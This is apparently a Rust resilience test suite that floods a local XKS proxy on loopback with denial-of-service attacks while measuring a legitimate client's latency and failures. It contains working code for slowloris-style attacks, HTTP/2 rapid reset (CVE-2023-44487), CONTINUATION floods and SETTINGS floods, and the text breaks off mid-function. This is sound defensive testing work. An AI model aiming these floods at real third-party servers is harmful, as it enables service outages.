//! Hostile traffic against the real xks-front (TLS, default limits) and vhsmd on loopback, while
//! a legitimate signed client sends Encrypt at a steady rate: what the legitimate client saw
//! (sent, failed, p99) and the servers' RSS and fds, per attack.
//!
//! Attackers connect from 127.0.0.2.. (all of 127.0.0.0/8 is loopback), the legitimate client
//! from 127.0.0.1, as different peers would. The quick run is part of `cargo test`; the long
//! run (the sizes of issue 10: 1,000+ stalled requests, 5,000 idle connections) needs
//! `XKS_HOSTILE_LONG=1` (command in docs/reliability.md). Each run prints one `HOSTILE` line per
//! attack. The legitimate client must see no failed request; latency is reported, not asserted.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::future::Future;
use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime};

use aws_credential_types::Credentials;
use aws_sigv4::http_request::{sign, SignableBody, SignableRequest, SigningSettings};
use aws_sigv4::sign::v4;
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use http_body_util::{BodyExt, Full};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rustls_pki_types::pem::PemObject;
use rustls_pki_types::{CertificateDer, ServerName};
use serde_json::{json, Value};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::watch;
use vhsm_e2e::procs::{KeyStoreSpec, XksFrontProc};
use vhsm_e2e::{cpu_time_us, Appliance, ApplianceOptions, XksClient};

const AKID: &str = "AKIAHOSTILETESTKEYAA";
const SECRET: &str = "aG9zdGlsZS1zdWl0ZS1zZWNyZXQtMTIzNDU2Nzg5MA==";
const ENCRYPT: &str = "/example/kms/xks/v1/keys/demo-key/encrypt";

// ---------- the rig ----------

struct Rig {
    app: Appliance,
    xks: XksFrontProc,
    client: XksClient,
    h1: Arc<rustls::ClientConfig>,
    h2: Arc<rustls::ClientConfig>,
}

fn tls_config(pki: &Path, alpn: &[u8]) -> Arc<rustls::ClientConfig> {
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_file_iter(pki.join("ca.crt")).unwrap() {
        roots.add(cert.unwrap()).unwrap();
    }
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    cfg.alpn_protocols = vec![alpn.to_vec()];
    Arc::new(cfg)
}

/// Sets the nice value of every thread of `pid` (Linux nice is per thread).
fn renice(pid: u32, nice: i32) {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return;
    };
    for t in tasks.flatten() {
        let _ = std::process::Command::new("renice")
            .args(["-n", &nice.to_string(), "-p"])
            .arg(t.file_name())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .status();
    }
}

/// The calling thread's id.
fn thread_id() -> Option<String> {
    let link = std::fs::read_link("/proc/thread-self").ok()?;
    Some(link.file_name()?.to_string_lossy().into_owned())
}

/// Servers at nice -10: on this one machine the attackers' load generator would otherwise take
/// the CPU a remote attacker spends on its own machine (see docs/reliability.md).
const SERVER_NICE: i32 = -10;

fn rig() -> Rig {
    let app = Appliance::start(&ApplianceOptions::default()).unwrap();
    let store = KeyStoreSpec {
        name: "default".into(),
        path_prefix: "/example".into(),
        keys: vec!["demo-key".into()],
        credentials: vec![(AKID.into(), SECRET.into())],
        rate_limit_per_sec: 5000,
        burst: 5000,
        extra_toml: String::new(),
    };
    let xks_dir = app.dir.path().join("xks");
    std::fs::create_dir_all(&xks_dir).unwrap();
    let xks = XksFrontProc::start(&xks_dir, &app.pki, &[&app.nodes[0]], &[store], 1).unwrap();
    let client = XksClient::new(xks.addr, &app.pki, None, AKID, SECRET).unwrap();
    renice(xks.pid().unwrap(), SERVER_NICE);
    renice(app.nodes[0].pid().unwrap(), SERVER_NICE);
    let h1 = tls_config(&app.pki, b"http/1.1");
    let h2 = tls_config(&app.pki, b"h2");
    Rig {
        app,
        xks,
        client,
        h1,
        h2,
    }
}

fn encrypt_body() -> Value {
    json!({
        "requestMetadata": {
            "awsPrincipalArn": "arn:aws:iam::123456789012:user/Alice",
            "kmsKeyArn": "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab",
            "kmsOperation": "Encrypt",
            "kmsRequestId": "4112f4d6-db54-4af4-ae30-c55a22a8dfae"
        },
        "additionalAuthenticatedData": B64.encode(b"aad"),
        "plaintext": B64.encode([7u8; 32]),
        "encryptionAlgorithm": "AES_GCM",
        "ciphertextDataIntegrityValueAlgorithm": "SHA_256"
    })
}

/// SigV4 headers for `body` with this `content_type` (signed), as KMS would send them.
fn signed_headers(
    host: &str,
    secret: &str,
    path: &str,
    body: &[u8],
    content_type: &str,
) -> Vec<(String, String)> {
    let identity = Credentials::new(AKID, secret, None, None, "hostile").into();
    let params = v4::SigningParams::builder()
        .identity(&identity)
        .region("us-east-1")
        .name("kms-xks-proxy")
        .time(SystemTime::now())
        .settings(SigningSettings::default())
        .build()
        .unwrap()
        .into();
    let uri = format!("https://{host}{path}");
    let headers = [("host", host), ("content-type", content_type)];
    let signable = SignableRequest::new(
        "POST",
        uri.as_str(),
        headers.iter().copied(),
        SignableBody::Bytes(body),
    )
    .unwrap();
    let (instructions, _) = sign(signable, &params).unwrap().into_parts();
    let mut req = http::Request::builder()
        .method("POST")
        .uri(path)
        .body(())
        .unwrap();
    instructions.apply_to_request_http1x(&mut req);
    let mut out = vec![
        ("host".to_string(), host.to_string()),
        ("content-type".to_string(), content_type.to_string()),
    ];
    for (k, v) in req.headers() {
        out.push((k.to_string(), v.to_str().unwrap().to_string()));
    }
    out
}

fn host(addr: SocketAddr) -> String {
    format!("xks.localhost:{}", addr.port())
}

// ---------- process figures ----------

/// (RSS in KiB, open fds) of a process.
fn proc_stats(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let rss = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let fds = std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count() as u64);
    (rss, fds)
}

#[derive(Default, Clone, Copy)]
struct Peak {
    rss_kb: u64,
    fds: u64,
}

/// Samples `pid` every 100 ms until `stop`; the peak.
async fn sample(pid: u32, mut stop: watch::Receiver<bool>) -> Peak {
    let mut peak = Peak::default();
    loop {
        let (rss, fds) = proc_stats(pid);
        peak.rss_kb = peak.rss_kb.max(rss);
        peak.fds = peak.fds.max(fds);
        tokio::select! {
            _ = tokio::time::sleep(Duration::from_millis(100)) => {}
            _ = stop.changed() => return peak,
        }
    }
}

async fn metric_lines(addr: SocketAddr) -> String {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).await.unwrap();
    out.lines()
        .filter(|l| l.starts_with("xks_limit_hits_total"))
        .map(|l| {
            l.trim_start_matches("xks_limit_hits_total{limit=\"")
                .replace("\"} ", "=")
        })
        .collect::<Vec<_>>()
        .join(",")
}

// ---------- the legitimate client ----------

#[derive(Default)]
struct LegitReport {
    sent: u64,
    failed: u64,
    errors: Vec<String>,
    latencies: Vec<Duration>,
}

impl LegitReport {
    fn p99_ms(&mut self) -> f64 {
        if self.latencies.is_empty() {
            return 0.0;
        }
        self.latencies.sort();
        let i = (self.latencies.len() * 99).div_ceil(100).saturating_sub(1);
        self.latencies[i].as_secs_f64() * 1000.0
    }
}

/// Signed Encrypt every `every` over one keep-alive connection (re-opened after an error, the
/// failed request counted), until `stop`.
async fn legit(
    client: XksClient,
    every: Duration,
    mut stop: watch::Receiver<bool>,
    ready: std::sync::mpsc::Sender<()>,
) -> LegitReport {
    let mut r = LegitReport::default();
    let body = encrypt_body();
    // A running KMS has its connections open before an attack starts.
    let mut conn = Some(client.connect().await.unwrap());
    let _ = ready.send(());
    let mut tick = tokio::time::interval(every);
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    loop {
        tokio::select! {
            _ = tick.tick() => {}
            _ = stop.changed() => return r,
        }
        let t = Instant::now();
        if conn.is_none() {
            match client.connect().await {
                Ok(c) => conn = Some(c),
                Err(e) => {
                    r.sent += 1;
                    r.failed += 1;
                    r.errors.push(format!("connect: {e:#}"));
                    continue;
                }
            }
        }
        let Some(c) = conn.as_mut() else { continue };
        r.sent += 1;
        match c.post(ENCRYPT, &body).await {
            Ok(resp) if resp.status == 200 => r.latencies.push(t.elapsed()),
            Ok(resp) => {
                r.failed += 1;
                r.errors.push(format!("{} {}", resp.status, resp.body));
            }
            Err(e) => {
                r.failed += 1;
                r.errors.push(format!("{e:#}"));
                conn = None;
            }
        }
    }
}

// ---------- attack plumbing ----------

/// Connects from 127.0.0.`2 + i % peers`.
async fn tcp_from(i: usize, peers: usize, to: SocketAddr) -> std::io::Result<TcpStream> {
    let octet = 2 + (i % peers) as u8;
    let sock = TcpSocket::new_v4()?;
    sock.bind(SocketAddr::new(IpAddr::from([127, 0, 0, octet]), 0))?;
    sock.connect(to).await
}

async fn tls_from(
    i: usize,
    peers: usize,
    to: SocketAddr,
    cfg: &Arc<rustls::ClientConfig>,
) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let tcp = tcp_from(i, peers, to).await?;
    let name = ServerName::try_from("xks.localhost").unwrap();
    tokio_rustls::TlsConnector::from(cfg.clone())
        .connect(name, tcp)
        .await
}

/// Reads until EOF, error or `stop`; true when the server closed first.
async fn until_closed<S: AsyncRead + Unpin>(s: &mut S, stop: &mut watch::Receiver<bool>) -> bool {
    let mut buf = vec![0u8; 16 * 1024];
    loop {
        tokio::select! {
            r = s.read(&mut buf) => match r {
                Ok(0) | Err(_) => return true,
                Ok(_) => {}
            },
            _ = stop.changed() => return false,
        }
    }
}

/// What one attack did.
#[derive(Default)]
struct AttackCount {
    /// Connections opened.
    conns: AtomicU64,
    /// Requests (or streams / frames, per attack) sent.
    sent: AtomicU64,
    /// Connections the server closed.
    closed: AtomicU64,
}

type Attack = fn(Target, Arc<AttackCount>, watch::Receiver<bool>) -> BoxedTask;
type BoxedTask = std::pin::Pin<Box<dyn Future<Output = ()> + Send>>;

/// Where and how an attacker task connects.
#[derive(Clone)]
struct Target {
    addr: SocketAddr,
    h1: Arc<rustls::ClientConfig>,
    h2: Arc<rustls::ClientConfig>,
    /// Task number (spreads tasks over peers).
    i: usize,
    peers: usize,
}

fn stalled_head() -> Vec<u8> {
    format!(
        "POST {ENCRYPT} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
         Content-Length: 100\r\n\r\n"
    )
    .into_bytes()
}

/// One HTTP/1.1 request per connection whose body never comes; again when answered.
fn stalled_body_h1(t: Target, c: Arc<AttackCount>, mut stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        while !*stop.borrow() {
            let Ok(mut s) = tls_from(t.i, t.peers, t.addr, &t.h1).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            c.conns.fetch_add(1, Ordering::Relaxed);
            if s.write_all(&stalled_head()).await.is_err() {
                continue;
            }
            c.sent.fetch_add(1, Ordering::Relaxed);
            if until_closed(&mut s, &mut stop).await {
                c.closed.fetch_add(1, Ordering::Relaxed);
            }
        }
    })
}

/// A silent connection: TLS handshake, then nothing; again when closed.
fn idle_tls(t: Target, c: Arc<AttackCount>, mut stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        while !*stop.borrow() {
            let Ok(mut s) = tls_from(t.i, t.peers, t.addr, &t.h1).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            c.conns.fetch_add(1, Ordering::Relaxed);
            if until_closed(&mut s, &mut stop).await {
                c.closed.fetch_add(1, Ordering::Relaxed);
            }
        }
    })
}

/// A TCP connection that never starts TLS; again when closed.
fn silent_tcp(t: Target, c: Arc<AttackCount>, mut stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        while !*stop.borrow() {
            let Ok(mut s) = tcp_from(t.i, t.peers, t.addr).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            c.conns.fetch_add(1, Ordering::Relaxed);
            if until_closed(&mut s, &mut stop).await {
                c.closed.fetch_add(1, Ordering::Relaxed);
            }
        }
    })
}

/// Writes `data` one byte every `every` until done, closed or `stop`.
async fn dribble<S: AsyncWrite + Unpin>(
    s: &mut S,
    data: &[u8],
    every: Duration,
    stop: &watch::Receiver<bool>,
) -> bool {
    for b in data {
        if *stop.borrow() || s.write_all(&[*b]).await.is_err() {
            return false;
        }
        tokio::time::sleep(every).await;
    }
    true
}

/// Request headers at one byte per 100 ms.
fn slow_headers(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        while !*stop.borrow() {
            let Ok(mut s) = tls_from(t.i, t.peers, t.addr, &t.h1).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            c.conns.fetch_add(1, Ordering::Relaxed);
            c.sent.fetch_add(1, Ordering::Relaxed);
            if !dribble(&mut s, &stalled_head(), Duration::from_millis(100), &stop).await {
                c.closed.fetch_add(1, Ordering::Relaxed);
            }
        }
    })
}

/// Headers at once, then the 2,000-byte body at one byte per 50 ms.
fn slow_body(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        let head = format!(
            "POST {ENCRYPT} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
             Content-Length: 2000\r\n\r\n"
        );
        while !*stop.borrow() {
            let Ok(mut s) = tls_from(t.i, t.peers, t.addr, &t.h1).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            c.conns.fetch_add(1, Ordering::Relaxed);
            if s.write_all(head.as_bytes()).await.is_err() {
                continue;
            }
            c.sent.fetch_add(1, Ordering::Relaxed);
            if !dribble(&mut s, &[b' '; 2000], Duration::from_millis(50), &stop).await {
                c.closed.fetch_add(1, Ordering::Relaxed);
            }
        }
    })
}

/// Connect, TLS handshake, close, as fast as it goes.
fn churn(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        while !*stop.borrow() {
            if let Ok(mut s) = tls_from(t.i, t.peers, t.addr, &t.h1).await {
                c.conns.fetch_add(1, Ordering::Relaxed);
                let _ = s.shutdown().await;
            }
        }
    })
}

/// Signed with the wrong secret, over keep-alive connections.
fn forged_sigv4(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        let body = serde_json::to_vec(&encrypt_body()).unwrap();
        let host = host(t.addr);
        while !*stop.borrow() {
            let Ok(s) = tls_from(t.i, t.peers, t.addr, &t.h1).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            c.conns.fetch_add(1, Ordering::Relaxed);
            let Ok((mut sender, conn)) =
                hyper::client::conn::http1::handshake::<_, Full<bytes::Bytes>>(TokioIo::new(s))
                    .await
            else {
                continue;
            };
            tokio::spawn(conn);
            loop {
                if *stop.borrow() {
                    return;
                }
                let headers = signed_headers(&host, "d3Jvbmc=", ENCRYPT, &body, "application/json");
                let mut req = http::Request::builder().method("POST").uri(ENCRYPT);
                for (k, v) in headers {
                    req = req.header(k, v);
                }
                let req = req
                    .body(Full::new(bytes::Bytes::from(body.clone())))
                    .unwrap();
                if sender.ready().await.is_err() {
                    break;
                }
                c.sent.fetch_add(1, Ordering::Relaxed);
                let Ok(resp) = sender.send_request(req).await else {
                    break;
                };
                assert_eq!(resp.status(), 401);
                let _ = resp.into_body().collect().await;
            }
            c.closed.fetch_add(1, Ordering::Relaxed);
        }
    })
}

// ---------- raw HTTP/2 ----------

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, ty, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// HPACK literal without indexing, indexed name (static table index `idx`), raw value < 127.
fn lit(idx: u8, value: &str) -> Vec<u8> {
    let mut out = if idx < 15 {
        vec![idx]
    } else {
        vec![0x0f, idx - 15]
    };
    out.push(value.len() as u8);
    out.extend_from_slice(value.as_bytes());
    out
}

/// POST `path` with content-length 100 (`:method POST`, `:scheme https` indexed).
fn post_block(path: &str) -> Vec<u8> {
    let mut b = vec![0x83, 0x87];
    b.extend(lit(1, "xks.localhost"));
    b.extend(lit(4, path));
    b.extend(lit(31, "application/json"));
    b.extend(lit(28, "100"));
    b
}

/// An HTTP/2 connection: preface and empty SETTINGS sent, everything it receives discarded.
async fn h2_conn(
    t: &Target,
    c: &AttackCount,
) -> Option<tokio::io::WriteHalf<tokio_rustls::client::TlsStream<TcpStream>>> {
    let mut s = tls_from(t.i, t.peers, t.addr, &t.h2).await.ok()?;
    c.conns.fetch_add(1, Ordering::Relaxed);
    s.write_all(PREFACE).await.ok()?;
    s.write_all(&frame(4, 0, 0, &[])).await.ok()?;
    let (mut r, w) = tokio::io::split(s);
    tokio::spawn(async move {
        let mut buf = vec![0u8; 16 * 1024];
        while matches!(r.read(&mut buf).await, Ok(n) if n > 0) {}
    });
    Some(w)
}

/// 64 streams per connection whose bodies never come (HEADERS without END_STREAM).
fn stalled_streams_h2(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        while !*stop.borrow() {
            let Some(mut w) = h2_conn(&t, &c).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            let block = post_block(ENCRYPT);
            let mut stream = 1u32;
            // Keep 64 streams open; re-open them every second (answered after the body timeout).
            'conn: while !*stop.borrow() {
                for _ in 0..64 {
                    if w.write_all(&frame(1, 0x4, stream, &block)).await.is_err() {
                        break 'conn;
                    }
                    c.sent.fetch_add(1, Ordering::Relaxed);
                    stream += 2;
                }
                tokio::time::sleep(Duration::from_millis(1000)).await;
            }
            c.closed.fetch_add(1, Ordering::Relaxed);
        }
    })
}

/// HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487).
fn rapid_reset(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        let block = post_block("/ping");
        while !*stop.borrow() {
            let Some(mut w) = h2_conn(&t, &c).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            let mut stream = 1u32;
            while !*stop.borrow() && stream < (1 << 30) {
                let mut batch = Vec::with_capacity(64 * 40);
                for _ in 0..64 {
                    batch.extend(frame(1, 0x4 | 0x1, stream, &block));
                    batch.extend(frame(3, 0, stream, &8u32.to_be_bytes()));
                    stream += 2;
                }
                if w.write_all(&batch).await.is_err() {
                    break;
                }
                c.sent.fetch_add(64, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
            c.closed.fetch_add(1, Ordering::Relaxed);
        }
    })
}

/// HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316 class).
fn continuation_flood(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        let mut junk = Vec::new();
        for i in 0..40 {
            // Literal without indexing, new name.
            let name = format!("x-junk-{i:03}");
            junk.push(0x00);
            junk.push(name.len() as u8);
            junk.extend_from_slice(name.as_bytes());
            junk.push(100);
            junk.extend_from_slice(&[b'a'; 100]);
        }
        while !*stop.borrow() {
            let Some(mut w) = h2_conn(&t, &c).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            if w.write_all(&frame(1, 0, 1, &post_block(ENCRYPT)))
                .await
                .is_err()
            {
                continue;
            }
            while !*stop.borrow() {
                if w.write_all(&frame(9, 0, 1, &junk)).await.is_err() {
                    break;
                }
                c.sent.fetch_add(1, Ordering::Relaxed);
            }
            c.closed.fetch_add(1, Ordering::Relaxed);
        }
    })
}

/// SETTINGS frames as fast as they go (each wants an ACK).
fn settings_flood(t: Target, c: Arc<AttackCount>, stop: watch::Receiver<bool>) -> BoxedTask {
    Box::pin(async move {
        // SETTINGS_INITIAL_WINDOW_SIZE = 65535, 64 times per write.
        let one = frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
        let batch: Vec<u8> = one.iter().copied().cycle().take(one.len() * 64).collect();
        while !*stop.borrow() {
            let Some(mut w) = h2_conn(&t, &c).await else {
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            while !*stop.borrow() {
                if w.write_all(&batch).await.is_err() {
                    break;
                }
                c.sent.fetch_add(64, Ordering::Relaxed);
                tokio::task::yield_now().await;
            }
            c.closed.fetch_add(1, Ordering::Relaxed);
        }
    })
}

// ---------- running an attack ----------

struct Scale {
    /// How long each attack runs while the legitimate client measures.
    duration: Duration,
    /// How long the attack builds up before the legitimate client starts.
    ramp: Duration,
    /// Attacker tasks for the connection-holding attacks.
    stalled: usize,
    idle: usize,
    silent: usize,
    slow: usize,
    h2_conns: usize,
    floods: usize,
    peers: usize,
}

fn scale() -> Scale {
    if std::env::var_os("XKS_HOSTILE_LONG").is_some() {
        Scale {
            duration: Duration::from_secs(10),
            ramp: Duration::from_secs(3),
            stalled: 1000,
            idle: 5000,
            silent: 2000,
            slow: 500,
            h2_conns: 128,
            floods: 4,
            peers: 16,
        }
    } else {
        Scale {
            duration: Duration::from_secs(3),
            ramp: Duration::from_millis(500),
            stalled: 200,
            idle: 300,
            silent: 200,
            slow: 50,
            h2_conns: 4,
            floods: 2,
            peers: 4,
        }
    }
}

/// Runs `tasks` attacker tasks of `attack` for `dur` while the legitimate client sends an
/// Encrypt every 10 ms; prints the HOSTILE line and returns the legitimate client's report.
async fn run(rig: &Rig, name: &str, attacks: &[(Attack, usize)], sc: &Scale) -> LegitReport {
    let (stop_tx, stop) = watch::channel(false);
    let count = Arc::new(AttackCount::default());
    let xks_pid = rig.xks.pid().unwrap();
    let vhsmd_pid = rig.app.nodes[0].pid().unwrap();
    let cpu0 = (cpu_time_us(xks_pid), cpu_time_us(vhsmd_pid));
    let t0 = Instant::now();
    let xks_peak = tokio::spawn(sample(xks_pid, stop.clone()));
    let vhsmd_peak = tokio::spawn(sample(vhsmd_pid, stop.clone()));
    // The legitimate client runs on its own thread and runtime: attacker tasks must not
    // delay it inside the test process, only the server can.
    let (client, legit_stop) = (rig.client.clone(), stop.clone());
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let legit_thread = std::thread::spawn(move || {
        // The legitimate client stands for KMS, on its own machine too.
        if let Some(tid) = thread_id() {
            let _ = std::process::Command::new("renice")
                .args(["-n", &SERVER_NICE.to_string(), "-p", &tid])
                .stdout(std::process::Stdio::null())
                .status();
        }
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(legit(
                client,
                Duration::from_millis(10),
                legit_stop,
                ready_tx,
            ))
    });
    tokio::task::spawn_blocking(move || ready_rx.recv().unwrap())
        .await
        .unwrap();
    let mut attackers = Vec::new();
    let mut tasks = 0;
    for (attack, n) in attacks {
        for i in 0..*n {
            let t = Target {
                addr: rig.xks.addr,
                h1: rig.h1.clone(),
                h2: rig.h2.clone(),
                i,
                peers: sc.peers,
            };
            attackers.push(tokio::spawn(attack(t, count.clone(), stop.clone())));
            tasks += 1;
            if tasks % 256 == 0 {
                // Open big attacks gradually rather than in one burst of handshakes.
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    }
    // Let the attack build up (the legitimate client keeps sending).
    tokio::time::sleep(sc.ramp).await;
    tokio::time::sleep(sc.duration).await;
    stop_tx.send(true).unwrap();
    let mut report = tokio::task::spawn_blocking(move || legit_thread.join().unwrap())
        .await
        .unwrap();
    for a in attackers {
        let _ = tokio::time::timeout(Duration::from_secs(5), a).await;
    }
    let (xp, vp) = (xks_peak.await.unwrap(), vhsmd_peak.await.unwrap());
    let secs = t0.elapsed().as_secs_f64();
    let cpu = |pid: u32, before: Option<u64>| {
        let used = cpu_time_us(pid)
            .unwrap_or(0)
            .saturating_sub(before.unwrap_or(0));
        used as f64 / 1e6 / secs * 100.0
    };
    let (xcpu, vcpu) = (cpu(xks_pid, cpu0.0), cpu(vhsmd_pid, cpu0.1));
    let hits = metric_lines(rig.xks.metrics_addr).await;
    let p99 = report.p99_ms();
    println!(
        "HOSTILE attack={name} tasks={tasks} conns_opened={} sent={} closed_by_server={} \
         legit_sent={} legit_failed={} legit_p99_ms={:.2} xks_rss_mb={:.1} xks_fds={} \
         xks_cpu_pct={xcpu:.0} vhsmd_rss_mb={:.1} vhsmd_fds={} vhsmd_cpu_pct={vcpu:.0} \
         limit_hits_total=[{hits}]",
        count.conns.load(Ordering::Relaxed),
        count.sent.load(Ordering::Relaxed),
        count.closed.load(Ordering::Relaxed),
        report.sent,
        report.failed,
        p99,
        xp.rss_kb as f64 / 1024.0,
        xp.fds,
        vp.rss_kb as f64 / 1024.0,
        vp.fds,
    );
    if report.failed > 0 {
        let log = std::fs::read_to_string(&rig.xks.log).unwrap_or_default();
        for l in log
            .lines()
            .filter(|l| l.contains("vhsm node failed") || l.contains("vhsm call failed"))
            .take(4)
        {
            println!("  xks-front: {l}");
        }
    }
    // Give the server a moment to close what the attack left behind.
    tokio::time::sleep(Duration::from_millis(200)).await;
    report
}

/// Notes a failure of the legitimate client (every attack runs; the test fails at the end).
fn check(failures: &mut Vec<String>, name: &str, r: &LegitReport) {
    if r.sent == 0 {
        failures.push(format!("{name}: the legitimate client sent nothing"));
    } else if r.failed > 0 {
        failures.push(format!(
            "{name}: {} of {} failed, e.g. {:?}",
            r.failed,
            r.sent,
            &r.errors[..r.errors.len().min(2)]
        ));
    }
}

async fn suite(rig: &Rig) {
    let sc = scale();
    let attacks: [(&str, Attack, usize); 11] = [
        ("baseline", idle_tls, 0),
        ("stalled_body_h1", stalled_body_h1, sc.stalled),
        ("stalled_streams_h2", stalled_streams_h2, sc.h2_conns),
        ("idle_tls", idle_tls, sc.idle),
        ("silent_tcp", silent_tcp, sc.silent),
        ("slow_headers", slow_headers, sc.slow),
        ("slow_body", slow_body, sc.slow),
        ("churn", churn, sc.floods),
        ("forged_sigv4", forged_sigv4, sc.floods),
        ("rapid_reset", rapid_reset, sc.floods),
        ("continuation_flood", continuation_flood, sc.floods),
    ];
    let mut failures = Vec::new();
    let only = std::env::var("XKS_HOSTILE_ONLY").ok();
    let wanted = |name: &str| {
        only.as_deref()
            .is_none_or(|o| o.split(',').any(|w| w == name))
    };
    for (name, attack, tasks) in attacks {
        if !wanted(name) {
            continue;
        }
        let r = run(rig, name, &[(attack, tasks)], &sc).await;
        check(&mut failures, name, &r);
    }
    if wanted("settings_flood") {
        let r = run(rig, "settings_flood", &[(settings_flood, sc.floods)], &sc).await;
        check(&mut failures, "settings_flood", &r);
    }
    // Issue 10's "done when": stalled requests and idle connections at the same time.
    if wanted("stalled_plus_idle") {
        let both = [(stalled_body_h1 as Attack, sc.stalled), (idle_tls, sc.idle)];
        let r = run(rig, "stalled_plus_idle", &both, &sc).await;
        check(&mut failures, "stalled_plus_idle", &r);
    }
    assert!(failures.is_empty(), "{failures:#?}");
    assert!(
        server_alive(rig).await,
        "xks-front does not answer after the suite"
    );
}

async fn server_alive(rig: &Rig) -> bool {
    let r = rig.client.post(ENCRYPT, &encrypt_body()).await.unwrap();
    r.status == 200
}

// ---------- answers every client can read ----------

/// A signed request over HTTP/2 (hyper's client); status and body.
async fn h2_post(rig: &Rig, path: &str, body: Vec<u8>, content_type: &str) -> (u16, Value) {
    let host = host(rig.xks.addr);
    let headers = signed_headers(&host, SECRET, path, &body, content_type);
    let tcp = TcpStream::connect(rig.xks.addr).await.unwrap();
    let name = ServerName::try_from("xks.localhost").unwrap();
    let tls = tokio_rustls::TlsConnector::from(rig.h2.clone())
        .connect(name, tcp)
        .await
        .unwrap();
    let (mut sender, conn) = hyper::client::conn::http2::handshake::<_, _, Full<bytes::Bytes>>(
        TokioExecutor::new(),
        TokioIo::new(tls),
    )
    .await
    .unwrap();
    tokio::spawn(conn);
    let mut req = http::Request::builder()
        .method("POST")
        .uri(format!("https://{host}{path}"));
    for (k, v) in headers {
        if k != "host" {
            req = req.header(k, v);
        }
    }
    let resp = sender
        .send_request(req.body(Full::new(bytes::Bytes::from(body))).unwrap())
        .await
        .unwrap();
    let status = resp.status().as_u16();
    let bytes = resp.into_body().collect().await.unwrap().to_bytes();
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

async fn answers(rig: &Rig) {
    // Issue 10: a ~530 KB Encrypt body over HTTP/2 used to get a stream reset.
    let big = json!({"plaintext": "A".repeat(530 * 1024)})
        .to_string()
        .into_bytes();
    let (s, v) = h2_post(rig, ENCRYPT, big, "application/json").await;
    assert_eq!(
        (s, v["errorName"].as_str()),
        (501, Some("UnsupportedOperationException")),
        "{v}"
    );
    let ok = serde_json::to_vec(&encrypt_body()).unwrap();
    let (s, v) = h2_post(rig, ENCRYPT, ok.clone(), "application/json").await;
    assert_eq!(s, 200, "{v}");
    // Signed but malformed: each gets its XKS error, never a crash or a hang.
    let nested = format!("{}{}", "[".repeat(30_000), "]".repeat(30_000));
    let mut bad_utf8 = ok.clone();
    bad_utf8.splice(10..10, [0xff, 0xfe]);
